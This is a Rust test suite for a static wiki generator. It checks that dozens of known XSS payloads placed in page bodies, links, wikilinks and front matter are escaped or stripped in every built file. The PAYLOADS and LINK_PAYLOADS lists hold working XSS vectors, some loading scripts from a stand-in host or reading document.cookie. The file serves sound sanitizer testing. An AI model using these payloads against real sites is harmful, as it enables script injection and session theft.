//! Hostile input: known XSS payloads from the usual cheat sheets (OWASP's XSS filter evasion
//! sheet, PortSwigger's, html5sec) placed everywhere an editor can write (raw HTML, link and image
//! targets, wikilink targets and labels, footnotes, table cells, headings, every front-matter
//! value), built, and every output file checked with a real HTML5 parser: no script but kwiki's
//! own, no event-handler attribute, no `javascript:`/`vbscript:`/`data:` URL, no frame, object,
//! style or base element survives.

use std::path::Path;

use scraper::{ElementRef, Html};

use crate::support::{TestSite, repo, stderr};

/// The fixture site's origin (`support::SITE_TOML`).
const SITE: &str = "https://example.github.io";

/// Each calls `kwikixss`, so a survivor is easy to spot in a file.
const PAYLOADS: &[&str] = &[
    "<script>kwikixss(1)</script>",
    "<SCRIPT SRC=https://xss.example/kwikixss.js></SCRIPT>",
    "<img src=x onerror=kwikixss(1)>",
    "<IMG SRC=\"javascript:kwikixss('XSS');\">",
    "<IMG SRC=JaVaScRiPt:kwikixss('XSS')>",
    "<IMG SRC=`javascript:kwikixss(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"kwikixss(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>kwikixss(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;kwikixss(1)>",
    "<IMG SRC=\"jav&#x09;ascript:kwikixss('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:kwikixss('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/kwikixss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=kwikixss(\"XSS\")>",
    "<<SCRIPT>kwikixss(\"XSS\");//\\<</SCRIPT>",
    "<svg/onload=kwikixss(1)>",
    "<svg><script>kwikixss(1)</script></svg>",
    "<iframe src=\"javascript:kwikixss(1)\"></iframe>",
    "<iframe srcdoc=\"<script>kwikixss(1)</script>\"></iframe>",
    "<object data=\"javascript:kwikixss(1)\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5rd2lraXhzcygxKTwvc2NyaXB0Pg==\">",
    "<a href=\"data:text/html,<script>kwikixss(1)</script>\">data link</a>",
    "<style>@import 'https://xss.example/kwikixss.css';</style>",
    "<div style=\"background-image: url(javascript:kwikixss(1))\">styled</div>",
    "<div style=\"width: expression(kwikixss(1)); position: fixed; top: 0\">overlay</div>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:kwikixss('XSS');\">",
    "<BASE HREF=\"javascript:kwikixss('XSS');//\">",
    "<form action=\"javascript:kwikixss(1)\"><button>go</button></form>",
    "<button formaction=\"javascript:kwikixss(1)\">go</button>",
    "<input onfocus=kwikixss(1) autofocus>",
    "<details open ontoggle=kwikixss(1)><summary>s</summary></details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=kwikixss(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=kwikixss(1)>\">",
    "\"><script>kwikixss(1)</script>",
    "' onmouseover='kwikixss(1)",
    "</textarea><script>kwikixss(1)</script>",
    "<a href=\"  javascript:kwikixss(1)\">spaced</a>",
    "<link rel=stylesheet href=\"https://xss.example/kwikixss.css\">",
    "<svg><animate onbegin=kwikixss(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:kwikixss(1)\"><text x=20 y=20>XSS</text></a></svg>",
    "<img src=x:kwikixss(alt) onerror=eval(src) alt=0>",
    "</script><script>kwikixss(1)</script>",
    "<x contenteditable onblur=kwikixss(1)>lose focus",
    "<!--<img src=\"--><img src=x onerror=kwikixss(1)//\">",
    "<a href=\"vbscript:kwikixss(1)\">vb</a>",
];

/// Markdown link forms whose target is hostile.
const LINK_PAYLOADS: &[&str] = &[
    "[j](javascript:kwikixss(1))",
    "[j](JaVaScRiPt:kwikixss(1))",
    "[j](java&#09;script:kwikixss(1))",
    "[j](<javascript:kwikixss(1)>)",
    "[j](data:text/html;base64,PHNjcmlwdD5rd2lraXhzcygxKTwvc2NyaXB0Pg==)",
    "[j](vbscript:kwikixss(1))",
    "![i](javascript:kwikixss(1))",
    "![i](data:image/svg+xml,<svg onload=kwikixss(1)>)",
    "<javascript:kwikixss(1)>",
    "[ref][hostile]\n\n[hostile]: javascript:kwikixss(1)",
    "[j](\"onmouseover=\"kwikixss(1))",
    "[[Alpha|<img src=x onerror=kwikixss(1)>]]",
    "[[<script>kwikixss(1)</script>]]",
    "[[javascript:kwikixss(1)]]",
    "[[Alpha#\"><script>kwikixss(1)</script>]]",
    "[[Alpha|\" onmouseover=\"kwikixss(1)]]",
];

/// A TOML basic string holding `text`.
fn toml_string(text: &str) -> String {
    let mut out = String::from("\"");
    for c in text.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() => out.push_str(&format!("\\u{:04X}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// The fixture: one page per payload, the payload in its title, summary, alias, a text field, a
/// category and every body position; one page with every hostile link form.
fn hostile_site() -> TestSite {
    let site = TestSite::new();
    let mut links = String::new();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let p = toml_string(payload);
        let alias = toml_string(&format!("{payload} alias {i}"));
        site.write(
            &format!("content/sources/p{i}.md"),
            &format!(
                "+++\ntitle = {title}\nsummary = {p}\naliases = [{alias}]\npublisher = {p}\ncategories = [{p}]\n+++\n\
                 {payload}\n\nA sentence with {payload} inline and a link to [[Alpha]].[^1]\n\n\
                 ## {payload}\n\n| a | b |\n| --- | --- |\n| {cell} | x |\n\n> {payload}\n\n\
                 [^1]: {payload} in a note.\n",
                title = toml_string(&format!("{payload} {i}")),
                cell = payload.replace('|', "\\|"),
            ),
        );
        links.push_str(&format!(
            "- [[{}]]\n",
            format!("{payload} {i}").replace(['[', ']', '|', '#'], " ")
        ));
    }
    let mut body = String::from("Alpha links its hostile neighbours.\n\n");
    for form in LINK_PAYLOADS {
        body.push_str(&format!("{form}\n\n"));
    }
    body.push_str(&links);
    site.page("content/groups/alpha.md", "Alpha", "", &body);
    site
}

/// The inline scripts kwiki's own templates carry (the theme one-liner); anything else inline
/// that is not JSON-LD is an injection.
fn own_inline_scripts() -> Vec<String> {
    let mut scripts = Vec::new();
    for entry in walkdir::WalkDir::new(repo().join("templates")) {
        let entry = entry.unwrap();
        if entry.file_type().is_file() {
            let text = std::fs::read_to_string(entry.path()).unwrap();
            let doc = Html::parse_document(&text);
            for el in doc.select(&scraper::Selector::parse("script").unwrap()) {
                if el.value().attr("src").is_none() && el.value().attr("type").is_none() {
                    scripts.push(el.text().collect());
                }
            }
        }
    }
    assert!(
        !scripts.is_empty(),
        "the theme script is inline in base.html"
    );
    scripts
}

/// A URL as a browser reads its scheme: ASCII whitespace and controls removed, lower case.
fn dangerous_url(value: &str) -> bool {
    let squeezed: String = value
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .collect::<String>()
        .to_ascii_lowercase();
    ["javascript:", "vbscript:", "data:", "livescript:"]
        .iter()
        .any(|s| squeezed.starts_with(s))
}

/// Every way a payload could run or restyle the page, in one HTML file.
fn problems_in_html(path: &str, text: &str, own_scripts: &[String], base: &str) -> Vec<String> {
    let own_url = |u: &str| u.starts_with(base) || u.starts_with(&format!("{SITE}{base}"));
    let doc = Html::parse_document(text);
    let mut problems = Vec::new();
    for node in doc.tree.nodes() {
        let Some(el) = ElementRef::wrap(node) else {
            continue;
        };
        let name = el.value().name();
        let mut bad = |why: String| problems.push(format!("{path}: <{name}> {why}"));
        match name {
            "script" => {
                let v = el.value();
                let text: String = el.text().collect();
                let ok = match (v.attr("src"), v.attr("type")) {
                    (Some(src), None) => own_url(src) && src.ends_with("kwiki.js"),
                    (None, Some("application/ld+json")) => {
                        serde_json::from_str::<serde_json::Value>(&text).is_ok()
                    }
                    (None, None) => own_scripts.contains(&text),
                    _ => false,
                };
                if !ok {
                    bad(format!("is not one of kwiki's scripts: {}", el.html()));
                }
            }
            "iframe" | "frame" | "frameset" | "object" | "embed" | "applet" | "style" | "base"
            | "math" | "animate" | "set" | "foreignobject" | "textarea" => {
                bad(format!("must not be in the output: {}", el.html()));
            }
            "form" if !el.value().attr("action").is_some_and(own_url) => {
                bad(format!("posts outside the site: {}", el.html()));
            }
            "meta" => {
                if let Some(content) = el.value().attr("content")
                    && el
                        .value()
                        .attr("http-equiv")
                        .is_some_and(|h| h.eq_ignore_ascii_case("refresh"))
                {
                    let target = content.split_once("url=").map_or("", |(_, u)| u);
                    if dangerous_url(target) || !own_url(target) {
                        bad(format!("refreshes to {content:?}"));
                    }
                }
            }
            "link"
                if el.value().attr("href").is_some_and(|h| {
                    dangerous_url(h)
                        || (el.value().attr("rel") == Some("stylesheet") && !own_url(h))
                }) =>
            {
                bad(format!("loads {}", el.html()));
            }
            _ => {}
        }
        for (attr, value) in el.value().attrs() {
            let attr = attr.to_ascii_lowercase();
            if attr.starts_with("on") {
                bad(format!("has an event handler {attr}={value:?}"));
            }
            if matches!(
                attr.as_str(),
                "href"
                    | "src"
                    | "action"
                    | "formaction"
                    | "xlink:href"
                    | "data"
                    | "poster"
                    | "background"
                    | "srcset"
                    | "cite"
                    | "srcdoc"
            ) && (dangerous_url(value) || attr == "srcdoc")
            {
                bad(format!("has {attr}={value:?}"));
            }
            if attr == "style"
                && ["url(", "expression", "position", "javascript", "@import"]
                    .iter()
                    .any(|s| value.to_ascii_lowercase().contains(s))
            {
                bad(format!("has style={value:?}"));
            }
        }
    }
    problems
}

fn check_tree(public: &Path, base: &str) -> (usize, Vec<String>) {
    let own = own_inline_scripts();
    let mut checked = 0;
    let mut problems = Vec::new();
    for entry in walkdir::WalkDir::new(public) {
        let entry = entry.unwrap();
        if !entry.file_type().is_file() {
            continue;
        }
        let rel = entry
            .path()
            .strip_prefix(public)
            .unwrap()
            .to_string_lossy()
            .into_owned();
        let bytes = std::fs::read(entry.path()).unwrap();
        let text = String::from_utf8_lossy(&bytes);
        checked += 1;
        match entry.path().extension().and_then(|e| e.to_str()) {
            Some("html") => problems.extend(problems_in_html(&rel, &text, &own, base)),
            Some("json") => {
                if serde_json::from_slice::<serde_json::Value>(&bytes).is_err() {
                    problems.push(format!("{rel}: not valid JSON"));
                }
                // Escaped `<` everywhere, so no `</script>` even if a file is ever inlined.
                if text.contains('<') {
                    problems.push(format!("{rel}: holds a raw '<'"));
                }
            }
            Some("xml")
                if text.to_ascii_lowercase().contains("<script")
                    || text.contains("javascript:") =>
            {
                problems.push(format!("{rel}: carries script"));
            }
            _ => {}
        }
    }
    (checked, problems)
}

#[test]
fn no_xss_payload_survives_in_any_output_file() {
    assert!(PAYLOADS.len() + LINK_PAYLOADS.len() >= 30);
    let site = hostile_site();
    let out = site.build();
    assert!(out.status.success(), "{}", stderr(&out));
    let public = site.root().join("public");
    let (checked, problems) = check_tree(&public, "/kpop-wiki/");
    // Every payload page and its redirect are among the checked files.
    assert!(checked > PAYLOADS.len() * 2, "only {checked} files");
    assert!(
        problems.is_empty(),
        "{} problems:\n{}",
        problems.len(),
        problems.join("\n")
    );
    // The payloads are there, harmless: shown as text in titles, never dropped silently.
    let p0 = site.read("sources/p0/index.html");
    assert!(
        p0.contains("<h1>&lt;script&gt;kwikixss(1)&lt;/script&gt; 0</h1>"),
        "{p0}"
    );
    // The editor is told what the sanitizer removed, with its position.
    let err = stderr(&out);
    assert!(
        err.contains("content/sources/p0.md:8:1: warning[unsafe-html]: <script> is not allowed"),
        "{err}"
    );
    assert!(err.contains("warning[unsafe-link]"), "{err}");
}

/// The check above can fail: the same scan finds each kind of injection in a page that has it.
#[test]
fn the_scanner_finds_what_it_looks_for() {
    let own = own_inline_scripts();
    for bad in [
        "<script>kwikixss(1)</script>",
        "<img src=x onerror=kwikixss(1)>",
        "<a href=' JaVa\tscript:kwikixss(1)'>x</a>",
        "<iframe src=x></iframe>",
        "<style>*{}</style>",
        "<div style='position:fixed'>x</div>",
        "<meta http-equiv=refresh content='0;url=javascript:x'>",
        "<form action='https://evil.example/'></form>",
        "<script type=application/ld+json>{</script>",
    ] {
        let html = format!("<!doctype html><html><body>{bad}</body></html>");
        assert!(
            !problems_in_html("x.html", &html, &own, "/kpop-wiki/").is_empty(),
            "missed {bad}"
        );
    }
    let own_page = format!(
        "<!doctype html><html><head><script>{}</script><script src=\"/kpop-wiki/kwiki.js\" defer></script></head><body><a href=\"/kpop-wiki/x/\">x</a></body></html>",
        own[0]
    );
    assert_eq!(
        problems_in_html("x.html", &own_page, &own, "/kpop-wiki/"),
        Vec::<String>::new()
    );
}

#[test]
fn the_documented_allow_list_of_html_stays_available() {
    let site = TestSite::new();
    site.page(
        "content/groups/alpha.md",
        "Alpha",
        "",
        "<details><summary>Members</summary>\n\nThe <kbd>K</kbd> key, <mark>marked</mark>, H<sub>2</sub>O and x<sup>2</sup>.\n\n</details>\n\n<abbr title=\"Korean pop\">K-pop</abbr> <span class=\"note\">note</span>\n",
    );
    let out = site.build();
    assert!(out.status.success(), "{}", stderr(&out));
    let html = site.read("groups/alpha/index.html");
    for kept in [
        "<details><summary>Members</summary>",
        "<kbd>K</kbd>",
        "<mark>marked</mark>",
        "H<sub>2</sub>O",
        "x<sup>2</sup>",
        "</details>",
        "<abbr title=\"Korean pop\">K-pop</abbr>",
        "<span class=\"note\">note</span>",
    ] {
        assert!(html.contains(kept), "{kept} missing from\n{html}");
    }
    assert!(!stderr(&out).contains("unsafe-html"), "{}", stderr(&out));
}

/// Autoescaping stays on: the templates never turn it off, and mark as safe only what kwiki
/// itself made safe (sanitized bodies and notes, escaped JSON-LD, the pictures `diagram.rs` and
/// `period_chart.rs` draw with every content text escaped).
#[test]
fn templates_keep_autoescaping_and_mark_only_kwikis_own_html_safe() {
    let allowed = [
        "page.content",
        // The content split before its first section (the lead, then the rest).
        "page.lead",
        "page.body",
        "page.footnotes",
        "page.json_ld",
        "json_ld",
        "page.graph.svg",
        // The timeline picture `period_chart.rs` draws, every name and role escaped.
        "page.period_chart.svg",
        "network.svg",
        "intro",
    ];
    let mut uses = Vec::new();
    for entry in walkdir::WalkDir::new(repo().join("templates")) {
        let entry = entry.unwrap();
        if !entry.file_type().is_file() {
            continue;
        }
        let text = std::fs::read_to_string(entry.path()).unwrap();
        let name = entry.file_name().to_string_lossy().into_owned();
        assert!(!text.contains("autoescape"), "{name} changes autoescaping");
        let mut rest = text.as_str();
        while let Some(at) = rest.find("| safe") {
            let before = &rest[..at];
            let expr = before[before.rfind("{{").expect("inside {{ }}") + 2..].trim();
            assert!(allowed.contains(&expr), "{name}: `{expr} | safe`");
            uses.push(expr.to_string());
            rest = &rest[at + 6..];
        }
    }
    assert!(uses.iter().any(|u| u == "page.lead"), "{uses:?}");
}
